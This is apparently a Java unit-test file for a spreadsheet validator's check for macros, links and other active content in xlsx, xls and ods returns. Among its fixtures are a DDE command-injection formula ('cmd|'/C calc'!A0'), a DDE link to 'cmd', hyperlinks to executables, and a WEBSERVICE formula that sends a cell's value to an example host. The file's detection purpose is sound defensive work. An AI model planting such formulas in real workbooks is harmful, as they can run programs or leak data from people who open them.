package org.waymark.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.waymark.cli.HostileWorkbook.ofRows;
import static org.waymark.cli.HostileWorkbook.sheet;
import static org.waymark.cli.HostileWorkbook.target;
import static org.waymark.cli.HostileWorkbook.text;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.ZipFile;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.Hyperlink;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Workbooks that can run or load something are reported in every format, and their values can be sent back alone. */
class ActiveContentTest {

    private static final Path SAMPLE = Path.of("samples/returns/2026-10/Ravensholt October.xlsx");

    private static final String CELL = "<row><c t='str'>%s<v>x</v></c></row>";

    @TempDir
    Path folder;

    /**
     * A workbook and what is found in it.
     *
     * @param name the file name
     * @param words the content that the finding names; empty for no finding
     * @param file writes the workbook
     */
    private record Sent(String name, String words, HostileFile.Content file) {

        @Override
        public String toString() {
            return name;
        }
    }

    private static List<Sent> workbooks() {
        return Stream.of(packages(), formulas(), binary(), spreadsheets())
                .flatMap(List::stream)
                .toList();
    }

    private static List<Sent> packages() {
        return List.of(
                new Sent("plain.xlsx", "", linked("", "")),
                new Sent("macros.xlsm", "macros", related("vbaProject", "vbaProject.bin", "")),
                new Sent("macro-sheet.xlsx", "macros", related("xlMacrosheet", "macrosheets/sheet1.xml", "")),
                new Sent("connection.xlsx", "data connections", related("connections", "connections.xml", "")),
                new Sent(
                        "workbook-link.xlsx",
                        "links to other files",
                        related("externalLink", "externalLinks/externalLink1.xml", "")
                                .part(
                                        "xl/externalLinks/externalLink1.xml",
                                        text("<externalLink><externalBook/></externalLink>"))),
                new Sent(
                        "dde.xlsx",
                        "links to other files, links to other programs",
                        related("externalLink", "externalLinks/externalLink1.xml", "")
                                .part(
                                        "xl/externalLinks/externalLink1.xml",
                                        text("<externalLink><ddeLink ddeService='cmd'/></externalLink>"))),
                new Sent("web-picture.xlsx", "links to other files", linked("image", "http://example.org/a.png")),
                new Sent("web-page.xlsx", "", linked("hyperlink", "https://example.org/evidence")),
                new Sent("mail.xlsx", "", linked("hyperlink", "mailto:returns@example.org")),
                new Sent("file-link.xlsx", "hyperlinks to files or programs", linked("hyperlink", "file:///c:/a.exe")),
                new Sent("share-link.xlsx", "hyperlinks to files or programs", linked("hyperlink", "\\\\host\\a.xlsx")),
                new Sent("object.xlsx", "embedded objects", linked("oleObject", "http://example.org/a.bin")),
                new Sent(
                        "broken-part.xlsx",
                        "a part that cannot be searched for such content",
                        ofRows(CELL.formatted(""))
                                .part("xl/worksheets/_rels/sheet1.xml.rels", text("<Relationships>"))));
    }

    private static List<Sent> formulas() {
        String loading = "formulas that load content from elsewhere";
        return List.of(
                new Sent("sum.xlsx", "", ofFormula("SUM(A2:A9)&amp;\"a|b!WEBSERVICE(1)\"")),
                new Sent("own-function.xlsx", "", ofFormula("MYIMAGE(A2)")),
                new Sent("web-service.xlsx", loading, ofFormula("_xlfn.WEBSERVICE(\"http://example.org/\"&amp;A2)")),
                new Sent("spelt.xlsx", loading, ofFormula("webs&#101;rvice (A2)")),
                new Sent("rtd.xlsx", loading, ofFormula("1+RTD(\"a\",,\"b\")")),
                new Sent("exchange.xlsx", "links to other programs", ofFormula("cmd|'/C calc'!A0")),
                new Sent(
                        "link-formula.xlsx",
                        "hyperlinks to files or programs",
                        ofFormula("HYPERLINK(\"file:///c:/a.exe\",\"report\")")),
                new Sent("page-formula.xlsx", "", ofFormula("HYPERLINK(\"https://example.org\",\"page\")")),
                new Sent("far-down.xlsx", loading, farDown()),
                new Sent(
                        "name.xlsx",
                        loading,
                        new HostileWorkbook()
                                .sheets(
                                        sheet(1, 1) + "<definedName name='n'>WEBSERVICE(A1)</definedName>",
                                        target(1, "worksheets/sheet1.xml"))
                                .rows(text(CELL.formatted("<f>n</f>")))),
                new Sent(
                        "condition.xlsx",
                        loading,
                        ofRows("")
                                .part(
                                        "xl/worksheets/sheet1.xml",
                                        text("<worksheet><sheetData>" + CELL.formatted("")
                                                + "</sheetData><conditionalFormatting><cfRule><formula>WEBSERVICE(A1)"
                                                + "</formula></cfRule></conditionalFormatting></worksheet>"))));
    }

    private static List<Sent> binary() {
        return List.of(
                new Sent("plain.xls", "", biff(stream -> {}, "Summary")),
                new Sent("macros.xls", "macros", biff(stream -> {}, "_VBA_PROJECT_CUR")),
                new Sent("object.xls", "embedded objects", biff(stream -> {}, "MBD0001")),
                new Sent(
                        "workbook-link.xls",
                        "links to other files",
                        biff(stream -> stream.record(0x01AE, 1, 0, 3, 0, 0, 1, 'a', 'b'), "Summary")),
                new Sent(
                        "dde.xls",
                        "links to other programs",
                        biff(stream -> stream.record(0x01AE, 1, 0, 3, 0, 0, 'a', 3, 'b'), "Summary")),
                new Sent("itself.xls", "", biff(stream -> stream.record(0x01AE, 1, 0, 1, 4), "Summary")),
                new Sent("query.xls", "data connections", biff(stream -> stream.record(0x01AD, 0, 0), "Summary")),
                new Sent(
                        "name.xls",
                        "formulas that load content from elsewhere",
                        biff(
                                stream -> stream.record(
                                        0x0018, 0, 0, 0, 10, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 'W', 'E', 'B', 'S', 'E',
                                        'R', 'V', 'I', 'C', 'E'),
                                "Summary")),
                new Sent("web-page.xls", "", link(HyperlinkType.URL, "https://example.org/evidence")),
                new Sent("place.xls", "", link(HyperlinkType.DOCUMENT, "'Returns'!A1")),
                new Sent("file-link.xls", "hyperlinks to files or programs", link(HyperlinkType.FILE, "c:/a.exe")));
    }

    private static List<Sent> spreadsheets() {
        String exchange = "of:=DDE(&quot;soffice&quot;;&quot;a.ods&quot;;&quot;A1&quot;)";
        return List.of(
                new Sent("plain.ods", "", ods("<text:p>x</text:p>", "", "")),
                new Sent("empty-library.ods", "", ods("<text:p>x</text:p>", "", "Basic/Standard/script-lb.xml")),
                new Sent("macros.ods", "macros", ods("<text:p>x</text:p>", "", "Basic/Standard/Module1.xml")),
                new Sent("dde.ods", "links to other programs", ods("<text:p>x</text:p>", exchange, "")),
                new Sent(
                        "web-service.ods",
                        "formulas that load content from elsewhere",
                        ods("<text:p>x</text:p>", "of:=WEBSERVICE([.A2])", "")),
                new Sent(
                        "other-sheet.ods",
                        "links to other files",
                        ods("<text:p>x</text:p>", "of:=['file:///a.ods'#$Sheet1.A1]", "")),
                new Sent(
                        "file-link.ods",
                        "hyperlinks to files or programs",
                        ods("<text:p><text:a xlink:href='file:///a.exe'>x</text:a></text:p>", "", "")),
                new Sent(
                        "web-page.ods",
                        "",
                        ods("<text:p><text:a xlink:href='https://example.org'>x</text:a></text:p>", "", "")),
                new Sent(
                        "object.ods",
                        "embedded objects",
                        ods(
                                "<text:p>x</text:p><draw:frame><draw:object xlink:href='./Object 1'/></draw:frame>",
                                "",
                                "")));
    }

    @ParameterizedTest
    @MethodSource("workbooks")
    void everyKindIsReportedInEveryFormat(Sent sent) throws IOException {
        write(sent.name(), sent.file());
        CommandRun run = CommandRun.in(folder, "validate", sent.name(), "--format", "csv", "--select", "WM-F");
        List<String> lines =
                run.out().lines().filter(line -> line.contains("WM-F09")).toList();
        if (sent.words().isEmpty()) {
            assertThat(lines).isEmpty();
        } else {
            assertThat(lines).singleElement().asString().contains("advisory", sent.words());
        }
        assertThat(run.out()).doesNotContain("WM-F01", "WM-F03");
    }

    @Test
    void theCopyAndThePageSayWhatTheCopyContains() throws IOException {
        writeReturnWithLink();
        CommandRun run = CommandRun.in(folder, "validate", "return.xlsx", "--annotate", "back", "--html", "back");
        assertThat(run.err())
                .contains("1 copy contains macros, links or other active content (WM-F09);"
                        + " --annotate-values leaves it out.");
        assertThat(page())
                .contains(
                        "The marked copy contains what the return contains besides values: hyperlinks to files or programs.");
        assertThat(hyperlinks("file:")).isOne();
    }

    @Test
    void valuesAreCopiedAlone() throws IOException {
        writeReturnWithLink();
        CommandRun run = CommandRun.in(
                folder, "validate", "return.xlsx", "--annotate", "back", "--html", "back", "--annotate-values");
        assertThat(run.err()).doesNotContain("active content");
        assertThat(page()).contains("The marked copy contains only the values of the return");
        assertThat(hyperlinks("file:")).isZero();
        Path copy = copy();
        try (Workbook sent =
                        WorkbookFactory.create(folder.resolve("return.xlsx").toFile(), null, true);
                Workbook values = WorkbookFactory.create(copy.toFile(), null, true)) {
            assertThat(values.getSheet("Milestones").getLastRowNum())
                    .isEqualTo(sent.getSheet("Milestones").getLastRowNum());
            assertThat(values.getSheet("Milestones").getRow(1).getCell(0).getStringCellValue())
                    .isEqualTo(sent.getSheet("Milestones").getRow(1).getCell(0).getStringCellValue());
        }
        String again = CommandRun.in(folder, "validate", copy.toString(), "--format", "csv")
                .out();
        assertThat(again).doesNotContain("WM-F09");
    }

    @Test
    void valuesOfWorkbooksInTheOldFormatAreCopiedAlone() throws IOException {
        write("in.xls", link(HyperlinkType.FILE, "c:/a.exe"));
        CommandRun.in(folder, "validate", "in.xls", "--annotate", "back", "--annotate-values");
        try (Workbook values =
                WorkbookFactory.create(folder.resolve("back/in.xlsx").toFile(), null, true)) {
            assertThat(values.getSheet("Returns").getRow(0).getCell(0).getStringCellValue())
                    .isEqualTo("a link");
            assertThat(values.getSheet("Returns").getHyperlinkList()).isEmpty();
        }
    }

    @Test
    void theContentOfCopiesNeedsCopies() throws IOException {
        writeReturnWithLink();
        CommandRun run = CommandRun.in(folder, "validate", "return.xlsx", "--annotate-values");
        assertThat(run.exit()).isEqualTo(2);
        assertThat(run.err()).contains("--annotate-values says what marked copies contain; name a folder");
    }

    /** A sample return with a fault, and a link to a file in a cell beside its table. */
    private void writeReturnWithLink() throws IOException {
        try (InputStream in = Files.newInputStream(SAMPLE);
                Workbook workbook = WorkbookFactory.create(in);
                OutputStream out = Files.newOutputStream(folder.resolve("return.xlsx"))) {
            Hyperlink link = workbook.getCreationHelper().createHyperlink(HyperlinkType.FILE);
            link.setAddress("file:///c:/a.exe");
            Cell cell = workbook.getSheet("Milestones").getRow(1).getCell(1);
            cell.setHyperlink(link);
            workbook.write(out);
        }
    }

    private String page() throws IOException {
        return Files.readString(copy().resolveSibling("findings.html"));
    }

    private Path copy() throws IOException {
        try (Stream<Path> files = Files.walk(folder.resolve("back"))) {
            return files.filter(file -> file.toString().endsWith(".xlsx"))
                    .findFirst()
                    .orElseThrow();
        }
    }

    private long hyperlinks(String scheme) throws IOException {
        try (ZipFile zip = new ZipFile(copy().toFile())) {
            long found = 0;
            for (var entry : zip.stream()
                    .filter(each -> each.getName().endsWith(".rels"))
                    .toList()) {
                String text = new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
                found += text.contains("Target=\"" + scheme) ? 1 : 0;
            }
            return found;
        }
    }

    private void write(String name, HostileFile.Content content) throws IOException {
        try (OutputStream out = Files.newOutputStream(folder.resolve(name))) {
            content.write(out);
        }
    }

    private static HostileWorkbook ofFormula(String formula) {
        return ofRows(CELL.formatted("<f>" + formula + "</f>"));
    }

    /** A formula that is not among the rows in which a table is looked for. */
    private static HostileWorkbook farDown() {
        return ofRows(CELL.formatted("").repeat(80) + CELL.formatted("<f>WEBSERVICE(A1)</f>"));
    }

    /** A workbook that refers to a part of this type. */
    private static HostileWorkbook related(String type, String part, String mode) {
        String other =
                "<Relationship Id='x' Type='http://example.org/" + type + "' Target='" + part + "'" + mode + "/>";
        return new HostileWorkbook()
                .sheets(sheet(1, 1), target(1, "worksheets/sheet1.xml") + other)
                .rows(text(CELL.formatted("")));
    }

    /** A workbook whose sheet refers to something outside it. */
    private static HostileWorkbook linked(String type, String address) {
        HostileWorkbook workbook = ofRows(CELL.formatted(""));
        return type.isEmpty()
                ? workbook
                : workbook.part(
                        "xl/worksheets/_rels/sheet1.xml.rels",
                        text("<Relationships><Relationship Id='x' Type='http://example.org/" + type + "' Target='"
                                + address + "' TargetMode='External'/></Relationships>"));
    }

    private interface Records {
        void addTo(BiffStream stream);
    }

    private static HostileFile.Content biff(Records inGlobals, String entry) {
        return out -> {
            BiffStream stream = new BiffStream();
            stream.begin(0x0005);
            stream.record(0x0085, 0, 0, 0, 0, 0, 0, 1, 0, 'S');
            inGlobals.addTo(stream);
            stream.end();
            stream.begin(0x0010);
            stream.record(0x0203, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x40);
            stream.end();
            try (POIFSFileSystem files = new POIFSFileSystem()) {
                files.createDocument(stream.input(), "Workbook");
                files.getRoot().createDirectory(entry);
                files.writeFilesystem(out);
            }
        };
    }

    private static HostileFile.Content link(HyperlinkType type, String address) {
        return out -> {
            try (HSSFWorkbook workbook = new HSSFWorkbook()) {
                Cell cell = workbook.createSheet("Returns").createRow(0).createCell(0);
                cell.setCellValue("a link");
                Hyperlink link = workbook.getCreationHelper().createHyperlink(type);
                link.setAddress(address);
                cell.setHyperlink(link);
                workbook.write(out);
            }
        };
    }

    private static HostileFile.Content ods(String inCell, String formula, String entry) {
        String attribute = formula.isEmpty() ? "" : " table:formula=\"" + formula + "\"";
        HostileWorkbook spreadsheet = new HostileWorkbook()
                .part("mimetype", text("application/vnd.oasis.opendocument.spreadsheet"))
                .part(
                        "content.xml",
                        text("<office:document-content xmlns:office='o' xmlns:table='t' xmlns:text='x' xmlns:draw='d'"
                                + " xmlns:xlink='l'><office:body><office:spreadsheet><table:table table:name='S'>"
                                + "<table:table-row><table:table-cell office:value-type='string'" + attribute + ">"
                                + inCell + "</table:table-cell></table:table-row></table:table></office:spreadsheet>"
                                + "</office:body></office:document-content>"));
        return entry.isEmpty() ? spreadsheet : spreadsheet.part(entry, text("<script/>"));
    }
}
